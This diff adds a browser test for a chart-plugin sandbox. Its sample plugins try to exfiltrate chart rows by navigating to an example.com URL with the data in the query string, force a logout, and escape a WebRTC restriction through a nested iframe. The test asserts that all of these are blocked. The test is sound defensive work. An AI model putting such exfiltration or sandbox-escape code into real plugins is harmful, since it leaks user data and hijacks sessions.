@@ -189,6 +189,37 @@ it('CHART-042: a plugin reads no cookies, storage or page, and opens no connecti
   expect(new URL(page.url()).pathname).toBe('/explore/')
 })
 
+it('CHART-042: a plugin cannot send its rows anywhere by leaving, nor sign its user out', async () => {
+  const requests: string[] = []
+  await page.context().route('https://example.com/**', (route) => {
+    requests.push(route.request().url())
+    return route.fulfill({ body: 'caught' })
+  })
+  await addPlugin(
+    'leaving',
+    `location.href = 'https://example.com/?rows=' + JSON.stringify(frames); await new Promise(() => {})`,
+  )
+  await open('leaving')
+  await page.getByText('It took longer than 5 seconds.').waitFor()
+  await addPlugin('signing-out', `location.href = '/logout/'; await new Promise(() => {})`)
+  await open('signing-out')
+  await page.getByText('It took longer than 5 seconds.').waitFor()
+  expect((await page.request.get('/api/v1/me/')).status()).toBe(200)
+  const nested = `
+    const inner = document.createElement('iframe')
+    inner.srcdoc = '<script>new RTCPeerConnection(); parent.postMessage("connected", "*")</script>'
+    let said = 'nothing'
+    addEventListener('message', ({ data }) => (said = data))
+    element.append(inner)
+    try { new inner.contentWindow.RTCPeerConnection(); said = 'connected' } catch {}
+    await new Promise((done) => setTimeout(done, 500))
+    element.textContent = 'nested: ' + said`
+  await addPlugin('nesting', nested)
+  await open('nesting')
+  await page.frameLocator('iframe').getByText('nested: nothing', { exact: true }).waitFor()
+  expect(requests).toEqual([])
+})
+
 it('CHART-040: is drawn on a dashboard with its filters, and a picture says that it is drawn by a plugin', async () => {
   const datasource_id = await findDataset()
   const form = {
